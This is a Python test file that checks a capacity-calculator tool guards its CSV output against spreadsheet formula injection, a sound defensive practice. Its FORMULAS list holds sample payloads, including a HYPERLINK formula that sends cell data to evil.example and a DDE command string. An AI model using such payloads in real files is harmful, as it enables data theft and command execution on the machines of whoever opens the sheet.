"""No CSV cell capcalc writes runs as a formula when the file is opened in a spreadsheet.

A source, a note, a name or a label read from a file anyone can write may begin
with ``=``, ``+``, ``-`` or ``@``; in every CSV capcalc writes (printed with
``--format csv`` or saved with ``--out``, by the command line, the report and the
dashboard's downloads, which all go through :mod:`calc.presentation.csvtext`) such
a cell gets a ``'`` before it, the OWASP rule, while numbers stay numbers and the
JSON keeps the text as written.
"""

from __future__ import annotations

import csv
import io
import json
import string
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from calc.core.errors import clean_text
from calc.presentation.csvtext import FORMULA_STARTS, csv_text
from calc.presentation.datapackage import FORMULA_NOTE

from tests.paths import ASSUMPTIONS_FILE, PEERS_FILE

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Source")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "  =1+1", "=\u200bHYPERLINK(1)"]


def cells(text: str) -> list[str]:
    """Every cell of CSV ``text``, header included."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert(text: str) -> None:
    """No cell of ``text`` would be run by a spreadsheet."""
    live = [c for c in cells(text) if c.lstrip(" ").startswith(FORMULA_STARTS) and
            not is_number(c)]
    assert not live, f"cells a spreadsheet would run: {live[:5]}"


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=30) |
                st.sampled_from(FORMULAS) | st.floats(allow_nan=False), min_size=1, max_size=6))
@example(["=1+1", "-5", "+1e3", "-inf", "@", "-", "'=x", "\t=1", "\r=1"])
def test_any_cell_is_written_inert_and_reads_back_as_written(row: list[object]) -> None:
    text = csv_text([row])
    assert_inert(text)
    (back,) = list(csv.reader(io.StringIO(text)))
    for original, cell in zip(row, back, strict=True):
        if isinstance(original, float):
            assert float(cell) == original
            continue
        cleaned = clean_text(str(original))
        assert cell in (cleaned, "'" + cleaned), (original, cell)
        assert (cell != cleaned) == (cleaned.lstrip(" ").startswith(FORMULA_STARTS)
                                     and not is_number(cleaned))


# ------------------------------------------------------------------ through the command line


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with an assumptions file, a peers file and a scenario file whose sources,
    notes, names and labels are formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    tree = yaml.safe_load(ASSUMPTIONS_FILE.read_text(encoding="utf-8"))
    tree["site"]["pue"]["source"] = FORMULAS[0]
    tree["site"]["pue"]["note"] = FORMULAS[3]
    tree["catalog"]["H100"]["name"] = FORMULAS[1]
    tree["catalog"]["H100"]["vendor"] = FORMULAS[2]
    (folder / "assumptions.yaml").write_text(yaml.safe_dump(tree, allow_unicode=True),
                                             encoding="utf-8")
    peers = yaml.safe_load(PEERS_FILE.read_text(encoding="utf-8"))
    for i, peer in enumerate(peers["peers"]):
        peer["source"] = FORMULAS[i % len(FORMULAS)]
        peer["note"] = FORMULAS[(i + 1) % len(FORMULAS)]
        peer["site"] = FORMULAS[(i + 2) % len(FORMULAS)]
        peer["operator"] = "@" + peer["operator"]
    (folder / "peers.yaml").write_text(yaml.safe_dump(peers, allow_unicode=True),
                                       encoding="utf-8")
    (folder / "mine.yaml").write_text(
        "name: mine\nbase: cortex-buildout\n"
        f"training.mfu: {{value: 0.4, source: {json.dumps(FORMULAS[0])}, as_of: 2025-01, "
        f"note: {json.dumps(FORMULAS[4])}}}\n", encoding="utf-8")
    return folder


@pytest.mark.parametrize("args", [
    ["assumptions", "mine.yaml", "--format", "csv"],
    ["--assumptions", "assumptions.yaml", "assumptions", "--format", "csv"],
    ["--assumptions", "assumptions.yaml", "catalog", "--format", "csv"],
    ["peers", "--peers", "peers.yaml", "--format", "csv"],
    ["calibrate", "--peers", "peers.yaml", "--format", "csv"],
    ["--assumptions", "assumptions.yaml", "run", "--format", "csv", "--samples", "200"],
    ["timeline", "mine.yaml", "--format", "csv"],
    ["levers", "mine.yaml", "--format", "csv"],
], ids=lambda args: " ".join(a for a in args if not a.endswith(".yaml")))
def test_every_printed_csv_is_inert(capcalc_cli, hostile: Path, args: list[str]) -> None:
    result = capcalc_cli(*args, cwd=hostile)
    assert result.returncode == 0, result.stderr
    assert_inert(result.stdout)
    assert len(cells(result.stdout)) > 5


def test_the_formula_text_is_kept_in_json_and_inert_in_csv(capcalc_cli, hostile: Path) -> None:
    as_csv = capcalc_cli("peers", "--peers", "peers.yaml", "--format", "csv", cwd=hostile)
    as_json = capcalc_cli("peers", "--peers", "peers.yaml", "--format", "json", cwd=hostile)
    sources = [p["source"] for p in json.loads(as_json.stdout)["peers"]]
    assert FORMULAS[0] in sources  # the text as written
    assert "'" + FORMULAS[0] in cells(as_csv.stdout)  # the same text, shown as text


@pytest.mark.slow
@pytest.mark.parametrize("args", [
    ["report", "mine.yaml", "--peers", "peers.yaml", "--samples", "200", "--formats", "svg"],
    ["--assumptions", "assumptions.yaml", "run", "--samples", "200", "--formats", "svg"],
    ["timeline", "mine.yaml", "--samples", "200", "--formats", "svg"],
    ["sensitivity", "compute_multiple", "mine.yaml", "--samples", "64", "--formats", "svg"],
], ids=lambda args: args[0] if args[0] != "--assumptions" else args[2])
def test_every_saved_csv_is_inert(capcalc_cli, hostile: Path, args: list[str]) -> None:
    out = hostile / f"out-{args[0]}-{len(args)}"
    result = capcalc_cli(*args, "--out", out.name, cwd=hostile)
    assert result.returncode == 0, result.stderr
    written = sorted(out.glob("*.csv"))
    assert written
    for path in written:
        assert_inert(path.read_text(encoding="utf-8"))
    described = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert FORMULA_NOTE in described["description"]  # says what a quote before a cell means


def test_a_dashboard_download_is_the_same_inert_csv(hostile: Path) -> None:
    """The dashboard's CSV buttons hand out ``Table.to_csv``: the peers table, for one."""
    from calc.data.peers import load_peers
    from calc.data.scenarios import load_library
    from calc.presentation.tables.peers import peers_table

    library = load_library(hostile / "assumptions.yaml")
    peers = load_peers(hostile / "peers.yaml", catalog=library.baseline.catalog)
    text = peers_table(peers, library).to_csv()
    assert_inert(text)
    assert "'" + FORMULAS[0] in cells(text)


def test_plain_numbers_and_words_are_written_as_they_are() -> None:
    text = csv_text([["a", "b", "c", "d"], ["-5", -5.5, "+1e3", "H100 (" + string.ascii_letters
                                            + ")"]])
    assert cells(text)[4:] == ["-5", "-5.5", "+1e3", "H100 (" + string.ascii_letters + ")"]
